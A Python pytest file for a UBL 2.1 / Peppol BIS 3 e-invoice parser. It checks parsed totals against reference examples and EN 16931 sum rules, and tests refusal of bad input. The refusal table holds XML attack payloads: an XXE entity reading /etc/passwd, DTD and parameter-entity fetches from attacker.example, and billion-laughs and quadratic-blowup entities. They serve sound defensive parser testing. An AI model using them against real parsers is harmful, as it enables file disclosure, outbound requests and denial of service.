"""UBL 2.1 / Peppol BIS 3 adapter.

Every reference example parses to the figures in expected_totals.json; the EN 16931 sum
rules hold for the Peppol examples and fail exactly where SOURCE.md says for the OASIS
TOSL108 ones; hostile or broken input is refused with one precise field error, in a fixed
order of precedence, without opening a file or a socket.
"""

from __future__ import annotations

import json
import socket
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chainfin.adapters.formats.ubl import (
    MAX_BYTES,
    DocumentKind,
    UblAllowanceCharge,
    UblDocument,
    UblParty,
    check_totals,
    parse_ubl,
)
from chainfin.domain.errors import FieldError, ValidationFailed
from chainfin.domain.money import Money
from propbudget import budget
from reference import REFERENCE

DATA = REFERENCE / "ubl21"
EXPECTED: dict[str, dict[str, Any]] = json.loads(
    (DATA / "expected_totals.json").read_text(encoding="utf-8")
)
TRIVIAL = "oasis_UBL-Invoice-2.1-Example-Trivial.xml"
PEPPOL = sorted(name for name in EXPECTED if name.startswith("peppol_"))
TOSL108 = ["oasis_UBL-Invoice-2.1-Example.xml", "oasis_UBL-CreditNote-2.1-Example.xml"]


def _read(name: str) -> bytes:
    return (DATA / name).read_bytes()


def _once(data: bytes, old: bytes, new: bytes) -> bytes:
    assert data.count(old) == 1, f"{old!r} occurs {data.count(old)} times"
    return data.replace(old, new)


def _trivial_in_usd() -> bytes:
    """The Trivial example as far as this platform can take it: it has no
    DocumentCurrencyCode and is in CAD, which MINOR_UNITS lacks (see the two tests below)."""
    data = _read(TRIVIAL).replace(b'currencyID="CAD"', b'currencyID="USD"')
    return _once(
        data,
        b"</cbc:IssueDate>",
        b"</cbc:IssueDate>\n  <cbc:DocumentCurrencyCode>USD</cbc:DocumentCurrencyCode>",
    )


def _parse(name: str) -> UblDocument:
    return parse_ubl(_trivial_in_usd() if name == TRIVIAL else _read(name))


def _refusal(data: bytes, **kwargs: int) -> FieldError:
    with pytest.raises(ValidationFailed) as caught:
        parse_ubl(data, **kwargs)
    assert len(caught.value.errors) == 1, caught.value.errors
    return caught.value.errors[0]


# --- the reference examples ---------------------------------------------------------------


def _dec(amount: Money | None) -> Decimal | None:
    return None if amount is None else amount.to_decimal()


def _figures(doc: UblDocument) -> dict[str, object]:
    """The document in the shape of expected_totals.json (numbers as Decimal)."""
    t = doc.totals
    taxes = [_dec(doc.tax_amount), doc.tax_amount_in_tax_currency]
    return {
        "root": "Invoice" if doc.kind is DocumentKind.INVOICE else "CreditNote",
        "id": doc.id,
        "issue_date": doc.issue_date.isoformat(),
        "currency": doc.currency,
        "type_code": doc.type_code,
        "line_count": len(doc.lines),
        "sum_of_line_amounts": sum(line.line_extension_amount.to_decimal() for line in doc.lines),
        "doc_allowances": sum(
            ac.amount.to_decimal() for ac in doc.allowances_charges if not ac.is_charge
        ),
        "doc_charges": sum(ac.amount.to_decimal() for ac in doc.allowances_charges if ac.is_charge),
        "LineExtensionAmount": _dec(t.line_extension_amount),
        "TaxExclusiveAmount": _dec(t.tax_exclusive_amount),
        "TaxInclusiveAmount": _dec(t.tax_inclusive_amount),
        "AllowanceTotalAmount": _dec(t.allowance_total_amount),
        "ChargeTotalAmount": _dec(t.charge_total_amount),
        "PrepaidAmount": _dec(t.prepaid_amount),
        "PayableRoundingAmount": _dec(t.payable_rounding_amount),
        "PayableAmount": _dec(t.payable_amount),
        "TaxTotal_TaxAmount": [tax for tax in taxes if tax is not None],
        "tax_subtotals": [
            {
                "category": sub.category_id,
                "percent": sub.percent,
                "taxable": sub.taxable_amount.to_decimal(),
                "tax": sub.tax_amount.to_decimal(),
            }
            for sub in doc.tax_subtotals
        ],
    }


_AMOUNT_KEYS = (
    "sum_of_line_amounts",
    "doc_allowances",
    "doc_charges",
    "LineExtensionAmount",
    "TaxExclusiveAmount",
    "TaxInclusiveAmount",
    "AllowanceTotalAmount",
    "ChargeTotalAmount",
    "PrepaidAmount",
    "PayableRoundingAmount",
    "PayableAmount",
)


def _expected(name: str) -> dict[str, Any]:
    """expected_totals.json for one file, numbers as Decimal ("25.0" == 25)."""
    raw = dict(EXPECTED[name])
    del raw["en16931_arithmetic_checks"]
    if name == TRIVIAL:
        raw["currency"] = "USD"  # see _trivial_in_usd
    for key in _AMOUNT_KEYS:
        raw[key] = None if raw[key] is None else Decimal(raw[key])
    raw["TaxTotal_TaxAmount"] = [Decimal(v) for v in raw["TaxTotal_TaxAmount"]]
    raw["tax_subtotals"] = [
        {k: v if k == "category" else Decimal(v) for k, v in sub.items()}
        for sub in raw["tax_subtotals"]
    ]
    return raw


def test_the_reference_set_is_the_one_described() -> None:
    assert sorted(EXPECTED) == sorted(p.name for p in DATA.glob("*.xml"))
    assert len(PEPPOL) == 4


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_every_example_yields_the_published_figures(name: str) -> None:
    assert _figures(_parse(name)) == _expected(name)


def test_the_trivial_example_as_published_has_no_document_currency() -> None:
    # UBL 2.1 makes DocumentCurrencyCode optional; EN 16931 (BT-5) and this adapter do not.
    assert _refusal(_read(TRIVIAL)) == FieldError("cbc:DocumentCurrencyCode", "is missing or empty")


def test_the_trivial_example_parses_once_its_currency_is_declared() -> None:
    data = _once(
        _read(TRIVIAL),
        b"</cbc:IssueDate>",
        b"</cbc:IssueDate><cbc:DocumentCurrencyCode>CAD</cbc:DocumentCurrencyCode>",
    )
    doc = parse_ubl(data)
    assert doc.currency == "CAD"
    assert doc.totals.payable_amount == Money.parse("100.00", "CAD")


def test_an_unsupported_document_currency_is_refused() -> None:
    data = _once(
        _read(TRIVIAL),
        b"</cbc:IssueDate>",
        b"</cbc:IssueDate><cbc:DocumentCurrencyCode>XTS</cbc:DocumentCurrencyCode>",
    )
    error = _refusal(data)
    assert error.field == "cbc:DocumentCurrencyCode"
    assert error.reason.startswith("unsupported currency 'XTS'; supported: ")


def test_the_trivial_example_has_only_the_mandatory_parts() -> None:
    doc = _parse(TRIVIAL)
    assert (doc.due_date, doc.tax_amount, doc.allowances_charges) == (None, None, ())
    assert (doc.seller.name, doc.seller.vat_id) == ("Custom Cotter Pins", None)
    assert doc.buyer.name == "North American Veeblefetzer"
    (line,) = doc.lines
    assert (line.id, line.quantity, line.item_name, line.price_amount) == ("1", None, None, None)
    assert check_totals(doc) == []  # no totals but PayableAmount, so no rule applies


@pytest.mark.parametrize("name", PEPPOL)
def test_peppol_examples_pass_every_sum_rule(name: str) -> None:
    assert check_totals(_parse(name)) == []


@pytest.mark.parametrize("name", TOSL108)
def test_oasis_tosl108_fails_br_co_15_and_16_exactly_as_source_md_says(name: str) -> None:
    assert check_totals(_parse(name)) == [
        FieldError(
            "cac:LegalMonetaryTotal/cbc:TaxInclusiveAmount",
            "BR-CO-15: TaxInclusiveAmount 1729.00 ≠ TaxExclusiveAmount 1436.50"
            " + TaxAmount 292.20 = 1728.70",
        ),
        FieldError(
            "cac:LegalMonetaryTotal/cbc:PayableAmount",
            "BR-CO-16: PayableAmount 729.00 ≠ TaxInclusiveAmount 1729.00"
            " − PrepaidAmount 1000.00 + PayableRoundingAmount 0.30 = 729.30",
        ),
    ]


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_failed_rules_agree_with_expected_totals_json(name: str) -> None:
    checks: dict[str, bool] = EXPECTED[name]["en16931_arithmetic_checks"]
    judged = {key.split()[0]: holds for key, holds in checks.items()}
    failed = {error.reason.split(":")[0] for error in check_totals(_parse(name))}
    assert failed <= set(judged)
    assert {rule for rule, holds in judged.items() if not holds} == failed


def test_oasis_invoice_parties_references_and_lines() -> None:
    doc = _parse("oasis_UBL-Invoice-2.1-Example.xml")
    assert (doc.kind, doc.type_code, doc.order_reference, doc.contract_reference) == (
        DocumentKind.INVOICE,
        "380",
        "123",
        "Contract321",
    )
    assert doc.due_date == date(2009, 12, 31)  # no cbc:DueDate: from cac:PaymentMeans
    assert doc.seller == UblParty(
        name="The Sellercompany Incorporated",
        trading_name="Salescompany ltd.",
        company_id="5402697509",
        company_id_scheme="CVR",
        vat_id="DK12345",
        endpoint_id="1234567890123",
        endpoint_scheme="GLN",
        country="DK",
    )
    assert (doc.buyer.name, doc.buyer.vat_id, doc.buyer.country) == (
        "The buyercompany inc.",
        "BE54321",
        "BE",
    )
    assert [(ac.is_charge, ac.amount, ac.reason) for ac in doc.allowances_charges] == [
        (True, Money(10000, "EUR"), "Packing cost"),
        (False, Money(10000, "EUR"), "Promotion discount"),
    ]
    first, second = doc.lines[:2]
    assert (first.id, first.quantity, first.unit_code, first.item_name) == (
        "1",
        Decimal(1),
        "C62",
        "Labtop computer",
    )
    assert (first.line_extension_amount, first.price_amount, first.base_quantity) == (
        Money(127300, "EUR"),
        Money(127300, "EUR"),
        Decimal(1),
    )
    # ClassifiedTaxCategory re-declares cac as the default namespace; it is still found.
    assert (first.tax_category_id, first.tax_percent) == ("S", Decimal(20))
    assert [(ac.is_charge, ac.amount.amount_minor) for ac in first.allowances_charges] == [
        (False, 1200),
        (True, 1000),
    ]
    assert (second.quantity, second.line_extension_amount) == (Decimal(-1), Money(-396, "EUR"))


def test_oasis_credit_note_has_no_type_code_and_no_due_date() -> None:
    doc = _parse("oasis_UBL-CreditNote-2.1-Example.xml")
    assert (doc.kind, doc.type_code, doc.due_date) == (DocumentKind.CREDIT_NOTE, None, None)
    assert [line.quantity for line in doc.lines] == [1, -1, 2, -1, 250]


def test_peppol_allowance_example_keeps_tax_currency_and_price_base_quantity() -> None:
    doc = _parse("peppol_bis3_Allowance-example.xml")
    assert (doc.currency, doc.tax_currency) == ("EUR", "SEK")
    assert (doc.tax_amount, doc.tax_amount_in_tax_currency) == (
        Money(122500, "EUR"),
        Decimal("9324.00"),
    )
    assert (doc.buyer_reference, doc.contract_reference, doc.due_date) == (
        "0150abc",
        "framework no 1",
        date(2017, 12, 1),
    )
    assert doc.allowances_charges[0] == UblAllowanceCharge(
        is_charge=True,
        amount=Money(20000, "EUR"),
        base_amount=Money(100000, "EUR"),
        multiplier=Decimal(20),
        reason="Cleaning",
        reason_code="CG",
        tax_category_id="S",
        tax_percent=Decimal(25),
    )
    line = doc.lines[1]
    assert (line.quantity, line.price_amount, line.base_quantity) == (
        Decimal(10),
        Money(20000, "EUR"),
        Decimal(2),
    )
    assert (line.tax_category_id, line.tax_percent) == ("E", Decimal(0))


def test_peppol_credit_note_links_the_corrected_invoice() -> None:
    doc = _parse("peppol_bis3_base-creditnote-correction.xml")
    assert (doc.kind, doc.type_code, doc.billing_reference, doc.due_date) == (
        DocumentKind.CREDIT_NOTE,
        "381",
        "Snippet1",
        None,
    )
    assert doc.buyer == UblParty(
        name="Buyer Official Name",
        trading_name="BuyerTradingName AS",
        company_id="39937423947",
        company_id_scheme="0183",
        vat_id="SE4598375937",
        endpoint_id="FR23342",
        endpoint_scheme="0002",
        country="SE",
    )
    assert [(line.quantity, line.unit_code) for line in doc.lines] == [
        (Decimal(7), "DAY"),
        (Decimal(-3), "DAY"),
    ]


# --- no file or network access ------------------------------------------------------------

_IO_EVENTS = ("open", "socket.", "urllib.", "http.", "ftplib.", "subprocess.", "os.system")
_watch: list[list[str]] = []


def _audit(event: str, args: tuple[object, ...]) -> None:
    if _watch and event.startswith(_IO_EVENTS):
        _watch[-1].append(event)


sys.addaudithook(_audit)  # audit hooks cannot be removed; this one is idle unless watched


@contextmanager
def _io_events() -> Iterator[list[str]]:
    """Record every attempt to open a file or a socket, or to fetch a URL, in the block."""
    _watch.append([])
    try:
        yield _watch[-1]
    finally:
        _watch.pop()


def test_the_io_guard_sees_file_and_socket_access() -> None:
    with _io_events() as events:
        Path(__file__).open("rb").close()
        socket.socket().close()
    assert {"open", "socket.__new__"} <= set(events)


# --- refusals, in order of precedence -----------------------------------------------------

BASE = _read("peppol_bis3_base-example.xml")
LIMIT = 256 * 1024  # max_bytes for the table, so "oversized" stays cheap


def _sub(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda data: _once(data, old, new)


def _doctype(declaration: bytes, reference: bytes = b"") -> Callable[[bytes], bytes]:
    """Declare a DOCTYPE after the XML declaration and use its entity in BuyerReference."""

    def mutate(data: bytes) -> bytes:
        data = _once(data, b"?>", b"?>\n" + declaration)
        tag = b"<cbc:BuyerReference>"
        return _once(data, tag, tag + reference)

    return mutate


XXE = b'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = b'<!DOCTYPE Invoice SYSTEM "http://attacker.example/ubl.dtd">'
BILLION_LAUGHS = (
    b'<!DOCTYPE Invoice [<!ENTITY lol0 "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]>"
)
QUADRATIC = b'<!DOCTYPE Invoice [<!ENTITY a "' + b"x" * 10_000 + b'">]>'
PARAMETER_ENTITY = (
    b'<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd"> %remote;]>'
)
LINE_2_AMOUNT = b'<cbc:LineExtensionAmount currencyID="EUR">-1500</cbc:LineExtensionAmount>'
LINE_2_PRICE = b'<cbc:PriceAmount currencyID="EUR">500</cbc:PriceAmount>'
DTD_REFUSED = "DOCTYPE refused: a UBL document carries no DTD"

# (case, mutation of BASE, field, reason fragment): each row outranks the rows below it.
REFUSALS: list[tuple[str, Callable[[bytes], bytes], str, str]] = [
    (
        "oversized",
        lambda d: d + b"<!--" + b"x" * LIMIT + b"-->",
        "xml",
        f"is larger than the limit of {LIMIT} bytes",
    ),
    (
        "not-utf8",
        _sub(b"BuyerTradingName AS", b"Buyer\xff\xfeTradingName AS"),
        "xml",
        "not UTF-8 text (invalid byte at offset",
    ),
    (
        "declared-latin1",
        _sub(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'),
        "xml",
        "declares encoding 'ISO-8859-1'; UBL must be UTF-8",
    ),
    (
        "external-dtd",
        _doctype(EXTERNAL_DTD),
        "xml",
        "names the external DTD 'http://attacker.example/ubl.dtd', which is never fetched",
    ),
    ("xxe", _doctype(XXE, b"&xxe;"), "xml", DTD_REFUSED),
    ("billion-laughs", _doctype(BILLION_LAUGHS, b"&lol9;"), "xml", DTD_REFUSED),
    ("quadratic-blowup", _doctype(QUADRATIC, b"&a;" * 10_000), "xml", DTD_REFUSED),
    ("parameter-entity", _doctype(PARAMETER_ENTITY), "xml", DTD_REFUSED),
    (
        "not-well-formed",
        _sub(b"4025:123:4343</cbc:AccountingCost>", b"4025:123:4343<x></cbc:AccountingCost>"),
        "xml",
        "not well-formed XML: mismatched tag: line 12",
    ),
    (
        "not-ubl-root",
        lambda d: _once(_once(d, b"<Invoice ", b"<Order "), b"</Invoice>", b"</Order>"),
        "xml",
        "root element {urn:oasis:names:specification:ubl:schema:xsd:Invoice-2}Order is not",
    ),
    ("no-id", _sub(b"<cbc:ID>Snippet1</cbc:ID>", b""), "cbc:ID", "is missing"),
    (
        "no-issue-date",
        _sub(b"<cbc:IssueDate>2017-11-13</cbc:IssueDate>", b""),
        "cbc:IssueDate",
        "is missing",
    ),
    (
        "no-currency",
        _sub(b"<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>", b""),
        "cbc:DocumentCurrencyCode",
        "is missing",
    ),
    (
        "charge-indicator",
        _sub(b"<cbc:ChargeIndicator>true<", b"<cbc:ChargeIndicator>yes<"),
        "cac:AllowanceCharge[1]/cbc:ChargeIndicator",
        "'yes' is not true or false",
    ),
    (
        "sub-cent-taxable",
        _sub(b'"EUR">1325</cbc:TaxableAmount>', b'"EUR">1325.001</cbc:TaxableAmount>'),
        "cac:TaxTotal[1]/cac:TaxSubtotal[1]/cbc:TaxableAmount",
        "'1325.001' has more than 2 decimal places for EUR",
    ),
    (
        "no-payable-amount",
        _sub(b'<cbc:PayableAmount currencyID="EUR">1656.25</cbc:PayableAmount>', b""),
        "cac:LegalMonetaryTotal/cbc:PayableAmount",
        "is missing",
    ),
    (
        "quantity-not-a-number",
        _sub(b'unitCode="DAY">7<', b'unitCode="DAY">seven<'),
        "cac:InvoiceLine[1]/cbc:InvoicedQuantity",
        "'seven' is not a decimal number",
    ),
    (
        "line-in-other-currency",
        _sub(LINE_2_AMOUNT, LINE_2_AMOUNT.replace(b"EUR", b"USD")),
        "cac:InvoiceLine[2]/cbc:LineExtensionAmount",
        "currencyID 'USD' is not the document currency EUR",
    ),
    (
        "comma-decimal",
        _sub(LINE_2_PRICE, LINE_2_PRICE.replace(b"500", b"12,50")),
        "cac:InvoiceLine[2]/cac:Price/cbc:PriceAmount",
        "'12,50' is not a decimal amount like 1234.56",
    ),
]
CASES = [case for case, *_ in REFUSALS]


def test_the_base_document_is_accepted() -> None:
    assert parse_ubl(BASE, max_bytes=LIMIT).id == "Snippet1"


@pytest.mark.parametrize(("case", "mutate", "field", "fragment"), REFUSALS, ids=CASES)
def test_each_problem_is_refused_precisely_without_io(
    case: str, mutate: Callable[[bytes], bytes], field: str, fragment: str
) -> None:
    data = mutate(BASE)
    with _io_events() as events:
        error = _refusal(data, max_bytes=LIMIT)
    assert (error.field, events) == (field, [])
    assert fragment in error.reason


@pytest.mark.parametrize("index", range(len(REFUSALS)), ids=CASES)
def test_a_problem_outranks_every_problem_listed_after_it(index: int) -> None:
    data = BASE
    for _, mutate, _, _ in reversed(REFUSALS[index:]):
        data = mutate(data)
    _, _, field, fragment = REFUSALS[index]
    error = _refusal(data, max_bytes=LIMIT)
    assert error.field == field
    assert fragment in error.reason


def test_the_default_limit_is_10_mib_and_is_checked_before_anything_else() -> None:
    assert MAX_BYTES == 10 * 1024 * 1024
    error = _refusal(b"\xff" * (MAX_BYTES + 1))
    assert error.reason == f"{MAX_BYTES + 1} bytes is larger than the limit of {MAX_BYTES} bytes"


def test_input_of_exactly_the_limit_is_accepted() -> None:
    assert parse_ubl(BASE, max_bytes=len(BASE)).id == "Snippet1"


@pytest.mark.parametrize(
    "garbage",
    [b"\x89PNG\r\n\x1a\n\x00\x00\xff\xd8", BASE.decode().encode("utf-16")],
    ids=["binary", "utf-16"],
)
def test_non_utf8_bytes_are_refused(garbage: bytes) -> None:
    error = _refusal(garbage)
    assert (error.field, error.reason[:12]) == ("xml", "not UTF-8 te")


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"", "not well-formed XML: no element found"),
        (b"<Invoice/>", "root element Invoice is not a UBL 2.1 Invoice or CreditNote"),
        (b'<x:Invoice xmlns:x="urn:example"/>', "root element {urn:example}Invoice is not"),
        (b"<a>&xxe;</a>", "not well-formed XML: undefined entity"),
    ],
    ids=["empty", "no-namespace", "other-namespace", "undeclared-entity"],
)
def test_other_non_ubl_input_is_refused(data: bytes, fragment: str) -> None:
    error = _refusal(data)
    assert error.field == "xml"
    assert fragment in error.reason


@pytest.mark.parametrize(
    ("old", "new", "field", "reason"),
    [
        (b"2017-11-13<", b"13.11.2017<", "cbc:IssueDate", "'13.11.2017' is not a date like"),
        (b"2017-11-13<", b"2017-02-30<", "cbc:IssueDate", "'2017-02-30' is not a valid date"),
        (b">EUR</cbc:Doc", b">XYZ</cbc:Doc", "cbc:DocumentCurrencyCode", "unsupported currency"),
        (
            b"<cbc:ID>Snippet1</cbc:ID>",
            b"<cbc:ID>Snippet1</cbc:ID><cbc:ID>Snippet2</cbc:ID>",
            "cbc:ID",
            "appears 2 times; at most once is allowed",
        ),
        (
            b'<cbc:PayableAmount currencyID="EUR">',
            b"<cbc:PayableAmount>",
            "cac:LegalMonetaryTotal/cbc:PayableAmount",
            "currencyID is missing; expected the document currency EUR",
        ),
    ],
    ids=["date-format", "date-value", "currency", "duplicate-id", "no-currency-id"],
)
def test_header_values_are_checked(old: bytes, new: bytes, field: str, reason: str) -> None:
    error = _refusal(_once(BASE, old, new))
    assert error.field == field
    assert reason in error.reason


def test_credit_note_lines_are_named_as_such() -> None:
    data = _read("peppol_bis3_base-creditnote-correction.xml")
    error = _refusal(_once(data, b'"EUR">-1500<', b'"SEK">-1500<'))
    assert error.field == "cac:CreditNoteLine[2]/cbc:LineExtensionAmount"


def test_a_document_without_lines_is_refused() -> None:
    start, end = BASE.index(b"<cac:InvoiceLine>"), BASE.rindex(b"</cac:InvoiceLine>")
    data = BASE[:start] + BASE[end + len(b"</cac:InvoiceLine>") :]
    assert _refusal(data) == FieldError("cac:InvoiceLine", "at least one line is required")


@settings(max_examples=budget(300), deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(BASE) - 1), st.integers(0, 255)), max_size=8))
def test_damaged_input_is_parsed_or_refused_never_crashes(flips: list[tuple[int, int]]) -> None:
    damaged = bytearray(BASE)
    for position, byte in flips:
        damaged[position] = byte
    errors = _errors_or_none(bytes(damaged))
    assert errors is None or [bool(e.field and e.reason) for e in errors] == [True]


def _errors_or_none(data: bytes) -> list[FieldError] | None:
    try:
        parse_ubl(data)
    except ValidationFailed as exc:
        return exc.errors
    return None


# --- the sum rules, one total at a time ---------------------------------------------------

ALLOWANCE_DOC = _parse("peppol_bis3_Allowance-example.xml")


def _bump(amount: Money | None, delta: int) -> Money:
    return (amount if amount is not None else Money.zero("EUR")) + Money(delta, "EUR")


def _totals(**changes: int) -> Callable[[UblDocument, int], UblDocument]:
    def mutate(doc: UblDocument, delta: int) -> UblDocument:
        t = doc.totals
        bumped = {name: _bump(getattr(t, name), delta) for name in changes}
        return replace(doc, totals=replace(t, **bumped))

    return mutate


def _first_line(doc: UblDocument, delta: int) -> UblDocument:
    line = doc.lines[0]
    bumped = replace(line, line_extension_amount=_bump(line.line_extension_amount, delta))
    return replace(doc, lines=(bumped, *doc.lines[1:]))


def _document_level(is_charge: bool) -> Callable[[UblDocument, int], UblDocument]:
    def mutate(doc: UblDocument, delta: int) -> UblDocument:
        items = list(doc.allowances_charges)
        i = next(i for i, ac in enumerate(items) if ac.is_charge is is_charge)
        items[i] = replace(items[i], amount=_bump(items[i].amount, delta))
        return replace(doc, allowances_charges=tuple(items))

    return mutate


def _tax_amount(doc: UblDocument, delta: int) -> UblDocument:
    return replace(doc, tax_amount=_bump(doc.tax_amount, delta))


def _first_subtotal(doc: UblDocument, delta: int) -> UblDocument:
    first = doc.tax_subtotals[0]
    bumped = replace(first, tax_amount=_bump(first.tax_amount, delta))
    return replace(doc, tax_subtotals=(bumped, *doc.tax_subtotals[1:]))


# (what changes, mutation, the rules that must then fail)
RULE_BREAKS: list[tuple[str, Callable[[UblDocument, int], UblDocument], set[str]]] = [
    ("line-net-amount", _first_line, {"BR-CO-10"}),
    ("document-allowance", _document_level(is_charge=False), {"BR-CO-11"}),
    ("document-charge", _document_level(is_charge=True), {"BR-CO-12"}),
    ("LineExtensionAmount", _totals(line_extension_amount=1), {"BR-CO-10", "BR-CO-13"}),
    ("AllowanceTotalAmount", _totals(allowance_total_amount=1), {"BR-CO-11", "BR-CO-13"}),
    ("ChargeTotalAmount", _totals(charge_total_amount=1), {"BR-CO-12", "BR-CO-13"}),
    ("TaxExclusiveAmount", _totals(tax_exclusive_amount=1), {"BR-CO-13", "BR-CO-15"}),
    ("TaxAmount", _tax_amount, {"BR-CO-14", "BR-CO-15"}),
    ("subtotal-TaxAmount", _first_subtotal, {"BR-CO-14"}),
    ("TaxInclusiveAmount", _totals(tax_inclusive_amount=1), {"BR-CO-15", "BR-CO-16"}),
    ("PrepaidAmount", _totals(prepaid_amount=1), {"BR-CO-16"}),
    ("PayableRoundingAmount", _totals(payable_rounding_amount=1), {"BR-CO-16"}),
    ("PayableAmount", _totals(payable_amount=1), {"BR-CO-16"}),
]


@pytest.mark.parametrize(
    ("mutate", "rules"), [row[1:] for row in RULE_BREAKS], ids=[row[0] for row in RULE_BREAKS]
)
@given(delta=st.integers(-(10**12), 10**12).filter(bool))
def test_changing_one_amount_breaks_exactly_its_rules(
    mutate: Callable[[UblDocument, int], UblDocument], rules: set[str], delta: int
) -> None:
    errors = check_totals(mutate(ALLOWANCE_DOC, delta))
    assert {error.reason.split(":")[0] for error in errors} == rules


def test_a_rule_message_names_fields_and_numbers() -> None:
    doc = _totals(charge_total_amount=1)(ALLOWANCE_DOC, 1)
    assert check_totals(doc) == [
        FieldError(
            "cac:LegalMonetaryTotal/cbc:ChargeTotalAmount",
            "BR-CO-12: ChargeTotalAmount 200.01 ≠ sum of 1 document-level charges 200.00",
        ),
        FieldError(
            "cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount",
            "BR-CO-13: TaxExclusiveAmount 5900.00 ≠ LineExtensionAmount 5900.00"
            " − AllowanceTotalAmount 200.00 + ChargeTotalAmount 200.01 = 5900.01",
        ),
    ]
